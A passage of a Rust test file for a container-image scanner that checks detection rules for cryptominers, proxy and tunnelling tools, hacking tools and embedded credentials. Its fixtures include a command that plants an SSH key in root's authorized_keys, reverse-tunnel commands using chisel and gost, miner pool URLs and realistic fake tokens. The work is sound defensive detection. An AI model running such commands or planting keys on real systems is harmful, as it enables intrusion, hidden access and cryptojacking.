//! One table per rule family: positives (keyword and confirmation both hit, with the expected
//! confidence) and near-miss negatives (the keyword hits, the confirmation must not).

use hubcensus_rules::{
    FileKind::{self, Binary, ConfigField, Elf, NameOnly, Script, Text},
    Match,
};
use hubcensus_types::Confidence::{self, High, Low, Medium};

use crate::{make, scan_as};

struct Case {
    rule: &'static str,
    path: &'static str,
    kind: FileKind,
    data: String,
    want: Option<Confidence>,
}

fn case(
    rule: &'static str,
    path: &'static str,
    kind: FileKind,
    data: impl Into<String>,
    want: Option<Confidence>,
) -> Case {
    Case { rule, path, kind, data: data.into(), want }
}

fn check(cases: &[Case]) {
    check_each(cases, |c| {
        let found = scan_as(c.path, c.kind, c.data.as_bytes());
        let data: String = c.data.chars().take(160).collect();
        (c.rule.to_owned(), c.want, found, format!("at {} ({:?})\n  data: {data:?}", c.path, c.kind))
    });
}

/// Runs every case (`run` gives its rule, the expected confidence, the matches and what was
/// scanned) and fails with each case whose rule's best confidence is not the expected one.
pub(crate) fn check_each<C>(
    cases: &[C],
    run: impl Fn(&C) -> (String, Option<Confidence>, Vec<Match>, String),
) {
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|c| {
            let (rule, want, found, what) = run(c);
            let got = found.iter().filter(|m| *m.rule == *rule).map(|m| m.confidence).max();
            let all: Vec<_> = found.iter().map(|m| (&*m.rule, m.confidence)).collect();
            (got != want).then(|| format!("{rule} {what}: want {want:?}, got {got:?} in {all:?}"))
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
}

/// A command rule's case: an image's command (Entrypoint then Cmd) as exec-form words.
struct CommandCase {
    rule: &'static str,
    argv: &'static [&'static str],
    want: Option<Confidence>,
}

const fn cmd(rule: &'static str, argv: &'static [&'static str], want: Option<Confidence>) -> CommandCase {
    CommandCase { rule, argv, want }
}

fn check_commands(cases: &[CommandCase]) {
    check_each(cases, |c| {
        let mut found = Vec::new();
        crate::rules().judge_command(c.argv, &mut found);
        (c.rule.to_owned(), c.want, found, format!("on {:?}", c.argv))
    });
}

/// The tool is the program the command starts, by basename, after launchers: never a word
/// that merely appears in the command.
const COMMAND_CASES: &[CommandCase] = &[
    cmd("miner_entrypoint", &["xmrig", "-c", "/etc/xmrig.json"], Some(Medium)),
    cmd("miner_entrypoint", &["/opt/xmrig/xmrig", "-o", "pool.example.net:3333"], Some(Medium)),
    cmd("miner_entrypoint", &["/bin/sh", "-c", "cd /opt && exec ./cpuminer-opt -a yespower"], Some(Medium)),
    cmd("miner_entrypoint", &["/sbin/tini", "--", "nohup", "XMRig", "--config=/c.json"], Some(Medium)),
    cmd("miner_entrypoint", &["nginx", "-c", "/etc/xmrig/nginx.conf"], None),
    cmd("miner_entrypoint", &["echo", "xmrig"], None),
    cmd("miner_entrypoint", &["/usr/local/bin/xmrig-exporter", "--port", "9100"], None),
    cmd("proxy_tool_entrypoint", &["tor", "-f", "/etc/tor/torrc"], Some(Medium)),
    cmd("proxy_tool_entrypoint", &["proxychains4", "curl", "http://x"], Some(Medium)),
    cmd("proxy_tool_entrypoint", &["trojan", "/etc/trojan/config.json"], Some(Medium)),
    cmd("proxy_tool_entrypoint", &["/usr/local/bin/gost", "-L", ":8080"], Some(Medium)),
    cmd("proxy_tool_entrypoint", &["ngrok", "http", "80"], Some(Medium)),
    cmd("proxy_tool_entrypoint", &["torsocks", "wget", "http://x"], Some(Medium)),
    cmd(
        "proxy_tool_entrypoint",
        &["env", "TZ=UTC", "/usr/bin/sing-box", "run", "-c", "/c.json"],
        Some(Medium),
    ),
    cmd(
        "proxy_tool_entrypoint",
        &["/bin/sh", "-c", "envsubst < /t > /etc/tor/torrc && exec tor -f /etc/tor/torrc"],
        Some(Medium),
    ),
    cmd("proxy_tool_entrypoint", &["nginx", "-c", "/etc/tor/torrc"], None),
    cmd("proxy_tool_entrypoint", &["tor-browser-docs"], None),
    cmd("proxy_tool_entrypoint", &["/bin/sh", "-c", "cat /usr/bin/tor | sha256sum"], None),
    cmd("proxy_tool_entrypoint", &["python3", "-c", "import tor"], None),
    cmd("hacking_tool_entrypoint", &["masscan", "-p1-65535", "10.0.0.0/8", "--rate", "1000"], Some(Medium)),
    cmd("hacking_tool_entrypoint", &["sqlmap", "-u", "http://x/?id=1", "--batch"], Some(Medium)),
    cmd(
        "hacking_tool_entrypoint",
        &["python3", "/opt/sqlmap/sqlmap.py", "-u", "http://x/?id=1"],
        Some(Medium),
    ),
    cmd("hacking_tool_entrypoint", &["nmap", "-sV", "10.0.0.1"], Some(Medium)),
    cmd("hacking_tool_entrypoint", &["perl", "/opt/nikto/program/nikto.pl", "-h", "x"], Some(Medium)),
    // Ory Hydra's images run `hydra serve all`: hydra is not listed.
    cmd("hacking_tool_entrypoint", &["hydra", "serve", "all"], None),
    cmd("hacking_tool_entrypoint", &["/bin/sh", "-c", "echo masscan is not installed"], None),
    cmd("hacking_tool_entrypoint", &["python3", "-m", "nmap_report", "/data"], None),
];

#[test]
fn commands() {
    check_commands(COMMAND_CASES);
}

#[test]
fn a_command_match_names_the_program_and_keeps_its_arguments() {
    let mut found = Vec::new();
    crate::rules()
        .judge_command(&["/sbin/tini", "--", "/usr/local/bin/gost", "-L", "socks5://:1080"], &mut found);
    assert_eq!(found.len(), 1, "{found:?}");
    let m = &found[0];
    assert_eq!((&*m.rule, m.category), ("proxy_tool_entrypoint", hubcensus_types::Category::ProxyAvoidance));
    assert_eq!(m.preview, "/usr/local/bin/gost -L socks5://:1080");
    assert_eq!(m.detail.get("program").map(String::as_str), Some("gost"));
    assert_eq!(m.offset, Some(2), "the argv word the program came from");
    // One finding per program line, however often it is started.
    let mut found = Vec::new();
    crate::rules().judge_command(&["sh", "-c", "tor; tor; tor -f x"], &mut found);
    let previews: Vec<&str> = found.iter().map(|m| m.preview.as_str()).collect();
    assert_eq!(previews, ["tor", "tor -f x"]);
}

fn cryptomining_cases() -> Vec<Case> {
    let wallet = make::monero(18, 1);
    let sub = make::monero(42, 2);
    vec![
        case(
            "stratum_url",
            "start.sh",
            Script,
            "#!/bin/sh\n./x -o stratum+tcp://pool.minexmr.com:4444 -u w\n",
            Some(High),
        ),
        case("stratum_url", "c.json", Text, r#"{"url": "STRATUM+SSL://xmr.example.org:443"}"#, Some(High)),
        case(
            "stratum_url",
            "usr/share/doc/x/README",
            Text,
            "use stratum+tcp://pool.example.com:3333",
            Some(Low),
        ),
        case("stratum_url", "a.txt", Text, "the stratum+tcp:// scheme", None),
        case("stratum_url", "a.txt", Text, "stratum tcp://pool.example.com:3333", None),
        case("monero_wallet", "run.sh", Script, format!("#!/bin/sh\nxmrig -u {wallet} -p x\n"), Some(High)),
        case("monero_wallet", "config.Env[0]", ConfigField, format!("WALLET={sub}"), Some(High)),
        case("monero_wallet", "README.md", Text, format!("Donate: {wallet}"), Some(Medium)),
        case(
            "monero_wallet",
            "etc/miner/config.json",
            Text,
            format!(r#"{{"pools": [{{"url": "pool.supportxmr.com:443", "user": "{wallet}"}}]}}"#),
            Some(High),
        ),
        case(
            "monero_wallet",
            "run.sh",
            Script,
            format!("#!/bin/sh\nxmrig -u {} -p x\n", make::mutate(&wallet, 40)),
            None,
        ),
        case("monero_wallet", "run.sh", Script, format!("#!/bin/sh\n{}\n", "4".repeat(95)), None),
        case("monero_wallet", "run.sh", Script, format!("#!/bin/sh\nx{wallet}x\n"), None),
        case("miner_binary_name", "usr/local/bin/xmrig", Elf, "\x7fELF", Some(High)),
        case("miner_binary_name", "opt/XMRig", Script, "#!/bin/sh\nexec ./xmrig-real \"$@\"\n", Some(Medium)),
        case("miner_binary_name", "usr/share/doc/xmrig", Script, "#!/bin/sh\n", Some(Low)),
        case("miner_binary_name", "usr/bin/xmrigger", Elf, "\x7fELF", None),
        // Not an executable: a data file, a directory or a link by the name alone.
        case("miner_binary_name", "opt/XMRig", Text, "notes", None),
        case("miner_binary_name", "opt/xmrig", NameOnly, "", None),
        case("miner_binary_name", "opt/xmrig", Binary, "PK\x03\x04\0\0", None),
        case(
            "miner_strings",
            "usr/bin/kworker",
            Elf,
            "\x7fELF\0\0XMRig/6.21.0\0--donate-level\0",
            Some(High),
        ),
        case("miner_strings", "usr/bin/tool", Elf, "\x7fELF\0\0xmrig\0only one miner string\0", None),
        case("miner_strings", "notes.txt", Text, "xmrig and --donate-level", None),
        case(
            "miner_config",
            "root/c3.json",
            Text,
            r#"{"autosave": true, "donate-level": 1, "cpu": {"huge-pages": true}, "pools": [{"algo": "rx/0", "url": "x", "user": "w"}]}"#,
            Some(High),
        ),
        case("miner_config", "package.json", Text, r#"{"pools": ["a", "b"], "name": "x"}"#, None),
        case(
            "miner_command_line",
            "entry.sh",
            Script,
            "#!/bin/sh\nexec ./app --donate-level=1 -o pool\n",
            Some(High),
        ),
        case("miner_command_line", "config.Cmd", ConfigField, "./sys -a rx/0 -o pool:443", Some(High)),
        case("miner_command_line", "entry.sh", Script, "#!/bin/sh\nexec ./app --donate 1\n", None),
    ]
}

fn embedded_keys_tokens_cases() -> Vec<Case> {
    let ghp = make::token("ghp_", 11);
    let npm = make::token("npm_", 12);
    let fine: String = (0..4).map(|i| make::token("", 40 + i)).collect();
    vec![
        case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={ghp}\n"), Some(High)),
        case(
            "github_token",
            "config.Env[1]",
            ConfigField,
            format!("GH_TOKEN={}", make::token("ghs_", 3)),
            Some(High),
        ),
        case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={}\n", make::mutate(&ghp, 10)), None),
        case("github_token", "app/.env", Text, format!("GITHUB_TOKEN={}\n", make::mutate(&ghp, 39)), None),
        case(
            "github_token",
            "app/.env",
            Text,
            "GITHUB_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
            None,
        ),
        case(
            "github_token",
            "usr/lib/python3/site-packages/gh/tests/t.py",
            Text,
            format!("T = '{ghp}'"),
            Some(Low),
        ),
        case(
            "npm_token",
            "root/.npmrc",
            Text,
            format!("//registry.npmjs.org/:_authToken={npm}\n"),
            Some(High),
        ),
        case(
            "npm_token",
            "root/.npmrc",
            Text,
            format!("//registry.npmjs.org/:_authToken={}\n", make::mutate(&npm, 20)),
            None,
        ),
        case(
            "npmrc_auth_token",
            "root/.npmrc",
            Text,
            "//registry.npmjs.org/:_authToken=a8Kd93jfLq0Zx7Vb\n",
            Some(High),
        ),
        case(
            "npmrc_auth_token",
            "root/.npmrc",
            Text,
            "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n",
            None,
        ),
        case(
            "npmrc_auth_token",
            "usr/lib/node_modules/npm/docs/npmrc.md",
            Text,
            "//registry.npmjs.org/:_authToken=MYTOKEN1\n",
            None,
        ),
        case("gitlab_token", "ci.env", Text, "GITLAB=glpat-Xk3v9QmZ2pLr7TwY1aBc\n", Some(High)),
        case("gitlab_token", "ci.env", Text, "GITLAB=glpat-xxxxxxxxxxxxxxxxxxxx\n", None),
        case(
            "slack_token",
            "bot.py",
            Text,
            "TOKEN = 'xoxb-2741926581-3958201746-Qw8ErT5yUi9OpAs1DfGh2Jk'",
            Some(High),
        ),
        case("slack_token", "bot.py", Text, "TOKEN = 'xoxb-your-token-here'", None),
        case(
            "slack_webhook",
            "notify.sh",
            Script,
            "#!/bin/sh\ncurl https://hooks.slack.com/services/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\n",
            Some(High),
        ),
        case(
            "slack_webhook",
            "notify.sh",
            Script,
            "#!/bin/sh\ncurl https://hooks.slack.com/services/XXX/YYY/ZZZ\n",
            None,
        ),
        case(
            "google_api_key",
            "web/app.js",
            Text,
            "const k = 'AIzaSyD8f3K9lmQ2xV7bN4cR1tY6uW0pE5aHjKs';",
            Some(High),
        ),
        case(
            "google_api_key",
            "web/app.js",
            Text,
            "const k = 'AIzaSyXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX';",
            None,
        ),
        case("stripe_live_key", "srv/.env", Text, "STRIPE=sk_live_4eC39HqLyjWDarjtT1zdp7dc9Xq\n", Some(High)),
        case("stripe_live_key", "srv/.env", Text, "STRIPE=sk_test_4eC39HqLyjWDarjtT1zdp7dc9Xq\n", None),
        case(
            "github_fine_grained_token",
            "a.env",
            Text,
            format!("T=github_pat_{}_{}\n", &fine[..22], &fine[22..81]),
            Some(Medium),
        ),
        case(
            "github_fine_grained_token",
            "a.env",
            Text,
            format!("T=github_pat_{}_{}\n", "A".repeat(22), "b".repeat(59)),
            None,
        ),
    ]
}

fn embedded_keys_aws_cases() -> Vec<Case> {
    vec![
        case("aws_access_key_id", "app/settings.py", Text, "KEY = 'AKIAY34FZKBOKMUTVV7A'\n", Some(Medium)),
        case(
            "aws_access_key_id",
            "root/.aws/credentials",
            Text,
            "[default]\naws_access_key_id = AKIAY34FZKBOKMUTVV7A\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKY\n",
            Some(High),
        ),
        case("aws_access_key_id", "docs.txt", Text, "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n", Some(Low)),
        case("aws_access_key_id", "x.txt", Text, "AIDAY34FZKBOKMUTVV7A is a user id", None),
        case("aws_access_key_id", "x.txt", Text, "AKIAY34FZKBOKMUTVV71 has a 1", None),
        case("aws_access_key_id", "x.txt", Text, "XAKIAY34FZKBOKMUTVV7AX", None),
    ]
}

#[test]
fn aws_account_ids_are_decoded_offline() {
    let m = crate::scan("app/settings.py", b"KEY = 'ASIAY34FZKBOKMUTVV7A'\n");
    let m = m.iter().find(|m| &*m.rule == "aws_access_key_id").expect("aws match");
    assert_eq!(m.detail.get("aws_account_id").map(String::as_str), Some("609629065308"));
    assert_eq!(m.preview, "ASIA…7A (len 20)");
}

fn embedded_keys_files_cases() -> Vec<Case> {
    let pem = make::rsa_pem(600, 3);
    let key = make::ssh_line(5);
    let docker = format!(
        r#"{{"auths": {{"https://index.docker.io/v1/": {{"auth": "{}"}}}}}}"#,
        make::b64("builder:S3cr3tPassw0rd!")
    );
    vec![
        case("private_key", "root/.ssh/id_rsa", Text, pem.clone(), Some(High)),
        case(
            "private_key",
            "config.Env[3]",
            ConfigField,
            format!("KEY={}", pem.replace('\n', "\\n")),
            Some(High),
        ),
        // Generated into the image at build time: every puller has it (counted, and marked).
        case("private_key", "etc/ssl/private/ssl-cert-snakeoil.key", Text, pem.clone(), Some(High)),
        case("private_key", "etc/ssh/ssh_host_ed25519_key", Text, pem.clone(), Some(High)),
        // Test, fixture and example places across ecosystems.
        case("private_key", "usr/lib/python3/site-packages/x/tests/k.pem", Text, pem.clone(), Some(Low)),
        case(
            "private_key",
            "usr/local/lib/python3.11/dist-packages/ecdsa/test_keys.py",
            Text,
            pem.clone(),
            Some(Low),
        ),
        case(
            "private_key",
            "usr/lib/python3/dist-packages/twisted/conch/test/keydata.py",
            Text,
            pem.clone(),
            Some(Low),
        ),
        case("private_key", "app/node_modules/ssh2/test/fixtures/id_rsa", Text, pem.clone(), Some(Low)),
        case("private_key", "go/pkg/mod/x/crypto@v0.1.0/ssh/testdata/keys.go", Text, pem.clone(), Some(Low)),
        case("private_key", "usr/share/doc/x/examples/server.key", Text, pem.clone(), Some(Low)),
        case("private_key", "app/node_modules/x/__tests__/k.pem", Text, pem.clone(), Some(Low)),
        case(
            "private_key",
            "src/keys.go",
            Text,
            "-----BEGIN RSA PRIVATE KEY-----\n%s\n-----END RSA PRIVATE KEY-----",
            None,
        ),
        case(
            "private_key",
            "x.pem",
            Text,
            "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----\n",
            None,
        ),
        case("ssh_authorized_key", "root/.ssh/authorized_keys", Text, format!("{key}\n"), Some(High)),
        case("ssh_authorized_key", "etc/ssh/known_hosts", Text, format!("host {key}\n"), None),
        case(
            "ssh_authorized_key",
            "root/.ssh/authorized_keys",
            Text,
            "ssh-ed25519 AAAAC3NzaC1yc2EAAAADAQAB x\n",
            None,
        ),
        case(
            "ssh_key_planted_by_command",
            "config.history[4]",
            ConfigField,
            format!("RUN echo '{key}' >> /root/.ssh/authorized_keys"),
            Some(High),
        ),
        case(
            "ssh_key_planted_by_command",
            "config.history[4]",
            ConfigField,
            format!("RUN echo '{key}' > /tmp/key.pub"),
            None,
        ),
        case("docker_registry_auth", "root/.docker/config.json", Text, docker.clone(), Some(High)),
        case(
            "docker_registry_auth",
            "root/.docker/config.json",
            Text,
            docker.replace("auths", "other"),
            None,
        ),
        case(
            "docker_registry_auth",
            "root/.docker/config.json",
            Text,
            format!(r#"{{"auths": {{"r": {{"auth": "{}"}}}}}}"#, make::b64("user:")),
            None,
        ),
        case(
            "git_credentials",
            "root/.git-credentials",
            Text,
            "https://alice:ghs_Zx9Kq2Lm4Np6Rs8Tv0Wy@github.com\n",
            Some(High),
        ),
        case("git_credentials", "root/.git-credentials", Text, "https://alice:${TOKEN}@github.com\n", None),
        case("git_credentials", "notes.txt", Text, "https://alice:Zx9Kq2Lm4Np6@github.com\n", None),
        case(
            "pypirc_password",
            "root/.pypirc",
            Text,
            "[pypi]\nusername = alice\npassword = pY8!kq2Lm4Np\n",
            Some(High),
        ),
        case(
            "pypirc_password",
            "root/.pypirc",
            Text,
            "[pypi]\nusername = alice\npassword = <your password>\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "etc/mysql/debian.cnf",
            Text,
            "[client]\nhost     = localhost\nuser     = debian-sys-maint\npassword = S3cr3tPa55w0rd\nsocket   = /run/mysqld/mysqld.sock\n",
            Some(Medium),
        ),
        case(
            "mysql_option_file_password",
            "root/.my.cnf",
            Text,
            "[client]\nuser=backup\npassword=\"Kq7#mZ2p\" # nightly dump\n",
            Some(Medium),
        ),
        case(
            "mysql_option_file_password",
            "backup/etc.tar.gz!/etc/mysql/mariadb.conf.d/60-client.cnf",
            Text,
            "[client]\n  password\t=\tx9Vb2Lq7\n",
            Some(Medium),
        ),
        // What Debian ships: mariadb-server's postinst writes debian.cnf without a password;
        // older ones and samples leave it empty or commented out.
        case(
            "mysql_option_file_password",
            "etc/mysql/debian.cnf",
            Text,
            "# THIS FILE IS OBSOLETE. STOP USING IT IF POSSIBLE.\n[client]\nhost     = localhost\nuser     = root\n[mysql_upgrade]\nhost     = localhost\nuser     = root\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "etc/mysql/debian.cnf",
            Text,
            "[client]\nhost     = localhost\nuser     = root\npassword = \nsocket   = /var/run/mysqld/mysqld.sock\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "etc/mysql/my.cnf",
            Text,
            "[client]\n#password = S3cr3tPa55w0rd\n; password = S3cr3tPa55w0rd\npassword = # set by the installer\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "root/.my.cnf",
            Text,
            "[client]\npassword = your_password\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "root/.my.cnf",
            Text,
            "[client]\npassword = ${MYSQL_ROOT_PASSWORD}\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "etc/app/settings.ini",
            Text,
            "[client]\npassword = S3cr3tPa55w0rd\n",
            None,
        ),
        case(
            "mysql_option_file_password",
            "etc/mysql/my.cnf",
            Text,
            "[mysqld]\nssl-password = S3cr3tPa55w0rd\nold_password=1x\n",
            None,
        ),
        case(
            "kubeconfig_client_key",
            "root/.kube/config",
            Text,
            format!("users:\n- user:\n    client-key-data: {}\n", make::b64(&pem)),
            Some(High),
        ),
        case(
            "kubeconfig_client_key",
            "root/.kube/config",
            Text,
            format!("    client-key-data: {}\n", make::b64("not a key at all, just some text here")),
            None,
        ),
        case(
            "kubeconfig_token",
            "root/.kube/config",
            Text,
            "users:\n- name: a\n  user:\n    token: eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1hY2hpbmUifQ.x9Zq\n",
            Some(High),
        ),
        case(
            "kubeconfig_token",
            "root/.kube/config",
            Text,
            "users:\n- name: a\n  user:\n    token: xxxxxxxxxxxxxxxxxxxxxxxx\n",
            None,
        ),
        case(
            "url_with_password",
            "config.Env[0]",
            ConfigField,
            "REPO=https://deploy:Hq7Zp2Kx9Lm@git.example.com/x.git",
            Some(Medium),
        ),
        case(
            "url_with_password",
            "config.Env[0]",
            ConfigField,
            "REPO=https://user:password@git.example.com/x.git",
            None,
        ),
    ]
}

fn proxy_avoidance_cases() -> Vec<Case> {
    vec![
        case("proxy_tool_binary", "usr/local/bin/frpc", Elf, "\x7fELF", Some(High)),
        case("proxy_tool_binary", "usr/local/bin/gost", Script, "#!/bin/sh", Some(Medium)),
        case("proxy_tool_binary", "usr/bin/v2ctl", Elf, "\x7fELF", Some(High)),
        case("anonymiser_binary", "usr/sbin/privoxy", Elf, "\x7fELF", Some(Medium)),
        case("anonymiser_binary", "usr/bin/socat", Elf, "\x7fELF", Some(Medium)),
        case("anonymiser_binary", "usr/sbin/iodined", Elf, "\x7fELF", Some(Medium)),
        case("anonymiser_binary", "etc/privoxy", Text, "", None),
        case("anonymiser_binary", "usr/share/doc/socat/socat.html", Text, "<html>", None),
        case("anonymiser_binary", "usr/bin/socat1", Elf, "\x7fELF", None),
        case(
            "proxy_tool_binary",
            "usr/bin/torsocks",
            Script,
            "#!/bin/sh\n# torsocks wrapper\n",
            Some(Medium),
        ),
        case("proxy_tool_binary", "usr/local/bin/frpc-helper", Elf, "\x7fELF", None),
        // botocore's service models: a directory named `xray`, and JSON data under it.
        case(
            "proxy_tool_binary",
            "usr/local/lib/python3.11/dist-packages/botocore/data/xray",
            NameOnly,
            "",
            None,
        ),
        case("proxy_tool_binary", "usr/lib/python3/dist-packages/botocore/data/xray", Text, "{}", None),
        case("proxy_tool_binary", "usr/sbin/v2ray", Binary, "\x01\x02\x03\0", None),
        case("tor_binary", "usr/bin/tor", Elf, "\x7fELF", Some(Medium)),
        case("tor_binary", "opt/tor-static/tor", Elf, "\x7fELF", Some(Medium)),
        case("tor_binary", "usr/bin/tor", Text, "a wrapper script, not the daemon", None),
        case("tor_binary", "usr/bin/torsocks", Elf, "\x7fELF", None),
        case("tor_binary", "usr/sbin/tor", NameOnly, "", None),
        case("tor_binary", "etc/tor", NameOnly, "", None),
        case("proxyware_binary", "app/honeygain", Elf, "\x7fELF", Some(High)),
        case("proxyware_binary", "app/honeygain.md", Text, "notes on Honeygain", None),
        case("proxyware_binary", "app/honeygain", NameOnly, "", None),
        case("torrc_bridges", "etc/tor/torrc", Text, TORRC_BRIDGES, Some(Medium)),
        case(
            "torrc_bridges",
            "opt/app/start.sh",
            Script,
            "#!/bin/sh\ncat > /etc/tor/torrc <<EOF\nUseBridges 1\nEOF\nexec tor\n",
            Some(Medium),
        ),
        case(
            "torrc_bridges",
            "etc/tor/torrc",
            Text,
            "BridgeRelay 1\nServerTransportPlugin obfs4 exec /usr/bin/obfs4proxy\n",
            Some(Medium),
        ),
        // Debian's shipped torrc: every line a comment.
        case("torrc_bridges", "etc/tor/torrc", Text, TORRC_DEBIAN, None),
        case("torrc_bridges", "etc/tor/torrc", Text, "UseBridges 0\nSocksPort 9050\n", None),
        case(
            "torrc_bridges",
            "etc/tor/torrc",
            Text,
            "  # UseBridges 1\n## Bridge obfs4 192.0.2.1:443 cert=x\n",
            None,
        ),
        case(
            "torrc_bridges",
            "docs/tor.md",
            Text,
            "Set `UseBridges 1` and a ClientTransportPlugin line.\n",
            None,
        ),
        case("proxychains_config", "etc/proxychains4.conf", Text, PROXYCHAINS_DEBIAN, Some(Medium)),
        case(
            "proxychains_config",
            "root/.proxychains/proxychains.conf",
            Text,
            "strict_chain\n[ProxyList]\nsocks5  203.0.113.7 1080 lamer secret\nhttp 198.51.100.2 8080\n",
            Some(Medium),
        ),
        case(
            "proxychains_config",
            "etc/proxychains4.conf",
            Text,
            PROXYCHAINS_DEBIAN.replace("\nsocks4 \t127.0.0.1 9050\n", "\n#socks4 \t127.0.0.1 9050\n"),
            None,
        ),
        case("proxychains_config", "etc/app.conf", Text, "[ProxyList]\nsocks5 203.0.113.7 1080\n", None),
        case(
            "proxychains_config",
            "etc/proxychains.conf",
            Text,
            "strict_chain\nsocks5 203.0.113.7 1080\n",
            None,
        ),
        case("trojan_config", "etc/trojan/config.json", Text, TROJAN_SERVER, Some(High)),
        case(
            "trojan_config",
            "etc/trojan-go/client.json",
            Text,
            r#"{"run_type": "client", "local_addr": "127.0.0.1", "local_port": 1080, "remote_addr": "203.0.113.9", "remote_port": 443, "password": ["k3y"], "ssl": {"sni": "example.net"}}"#,
            Some(High),
        ),
        case("trojan_config", "app/settings.json", Text, r#"{"run_type": "server", "port": 80}"#, None),
        case(
            "trojan_config",
            "app/settings.json",
            Text,
            r#"{"run_type": "batch", "local_addr": "a", "remote_addr": "b", "password": "c"}"#,
            None,
        ),
        case(
            "proxy_tool_go_module",
            "app/svc",
            Elf,
            "\x7fELF\0github.com/fatedier/frp/client.(*Service).Run\0",
            Some(High),
        ),
        case("proxy_tool_go_module", "app/svc", Text, "github.com/fatedier/frp is great", None),
        case(
            "proxyware_strings",
            "config.Cmd",
            ConfigField,
            "-tou-accept -email a@b.c -password x -device honeygain-1",
            Some(High),
        ),
        case("proxyware_strings", "README.md", Text, "We do not use Honeygain.", Some(Medium)),
        case("proxyware_strings", "a.sh", Script, "#!/bin/sh\necho honey gain\n", None),
        case(
            "frp_config",
            "etc/frp/frpc.ini",
            Text,
            "[common]\nserver_addr = 1.2.3.4\nserver_port = 7000\n[ssh]\nlocal_ip = 127.0.0.1\nremote_port = 6000\n",
            Some(High),
        ),
        case("frp_config", "app.ini", Text, "[db]\nserver_addr = db\n", None),
        case(
            "shadowsocks_config",
            "etc/ss.json",
            Text,
            r#"{"server":"0.0.0.0","server_port":8388,"password":"p","method":"aes-256-gcm","fast_open":true}"#,
            Some(High),
        ),
        case(
            "shadowsocks_config",
            "etc/shadowsocks-libev/config.json",
            Text,
            "{\n  \"server\": \"0.0.0.0\",\n  \"server_port\": 8388,\n  \"password\": \"k3y\",\n  \"method\": \"chacha20-ietf-poly1305\",\n  \"mode\": \"tcp_and_udp\"\n}\n",
            Some(High),
        ),
        // shadowsocks-libev's own sample (Debian: usr/share/shadowsocks-libev/config.json).
        case(
            "shadowsocks_config",
            "usr/share/shadowsocks-libev/config.json",
            Text,
            SS_LIBEV_DEBIAN,
            Some(High),
        ),
        case("shadowsocks_config", "app.json", Text, r#"{"server_port": 80, "name": "web"}"#, None),
        // trojan's config holds a MySQL block with a port and a password, and no cipher method:
        // neither shadowsocks' nor frp's (whose keys are `server_addr =` or `serverAddr`).
        case("shadowsocks_config", "etc/trojan/config.json", Text, TROJAN_MYSQL_BLOCK, None),
        case("frp_config", "etc/trojan/config.json", Text, TROJAN_MYSQL_BLOCK, None),
        case(
            "shadowsocks_config",
            "app.json",
            Text,
            r#"{"server_port": 80, "password": "x", "user": "u"}"#,
            None,
        ),
        case(
            "proxy_tool_command",
            "config.Cmd",
            ConfigField,
            "ss-server -c /etc/shadowsocks-libev/config.json",
            Some(Medium),
        ),
        case("proxy_tool_command", "config.Entrypoint", ConfigField, "/usr/local/bin/ssserver", Some(Medium)),
        case(
            "proxy_tool_command",
            "entrypoint.sh",
            Script,
            "#!/bin/sh\nset -e\nexec /usr/bin/gost -L socks5://:1080 -F relay+tls://1.2.3.4:8443\n",
            Some(Medium),
        ),
        case(
            "proxy_tool_command",
            "history[3].created_by",
            ConfigField,
            "RUN /bin/sh -c chisel client --auth u:p 10.0.0.1:8080 R:socks # buildkit",
            Some(Medium),
        ),
        case("proxy_tool_command", "config.Cmd", ConfigField, "/app/bypass-server -c /app/conf.yml", None),
        case("proxy_tool_command", "setup.sh", Script, "#!/bin/sh\ncat /usr/share/doc/ss-server.txt\n", None),
        case("proxy_tool_command", "config.Env[0]", ConfigField, "ENGINE=gosthash", None),
        case(
            "proxy_tool_command",
            "history[4].created_by",
            ConfigField,
            "COPY gost /usr/sbin/netd # buildkit",
            None,
        ),
        case(
            "v2ray_config",
            "etc/v2ray/config.json",
            Text,
            r#"{"inbounds":[{"protocol":"vmess","streamSettings":{}}],"outbounds":[{"protocol":"freedom"}]}"#,
            Some(High),
        ),
        case(
            "v2ray_config",
            "usr/local/etc/xray/config.json",
            Text,
            r#"{"inbounds": [{"port": 443, "protocol": "vless", "settings": {"clients": [{"id": "x"}], "decryption": "none"}, "streamSettings": {"network": "tcp", "security": "reality"}}], "outbounds": [{"protocol": "freedom"}]}"#,
            Some(High),
        ),
        case("v2ray_config", "usr/share/v2ray/config.json", Text, V2RAY_DEBIAN, Some(High)),
        case("v2ray_config", "app.json", Text, r#"{"outbounds": []}"#, None),
        case(
            "v2ray_config",
            "app.json",
            Text,
            r#"{"inbounds": [], "outbounds": [{"protocol": "socks"}]}"#,
            None,
        ),
        case(
            "clash_config",
            "root/.config/clash/config.yaml",
            Text,
            "proxies:\n  - name: a\n    type: ss\nproxy-groups:\n  - name: g\n",
            Some(High),
        ),
        case("clash_config", "x.yaml", Text, "proxy-groups: []\n", None),
        case(
            "proxy_share_link",
            "sub.txt",
            Text,
            "vmess://eyJhZGQiOiIxLjIuMy40IiwicG9ydCI6NDQzfQ==\n",
            Some(High),
        ),
        case("proxy_share_link", "sub.txt", Text, "see vmess:// links\n", None),
    ]
}

fn hacking_tools_cases() -> Vec<Case> {
    vec![
        case("hacking_tool_binary", "usr/bin/masscan", Elf, "\x7fELF", Some(High)),
        case("hacking_tool_binary", "opt/sqlmap/sqlmap.py", Script, "#!/usr/bin/env python3", Some(High)),
        case("hacking_tool_binary", "usr/bin/masscanner-notes", Elf, "\x7fELF", None),
        case("hacking_tool_binary", "usr/sbin/john", Elf, "\x7fELF", Some(High)),
        case("hacking_tool_binary", "usr/bin/aircrack-ng", Elf, "\x7fELF", Some(High)),
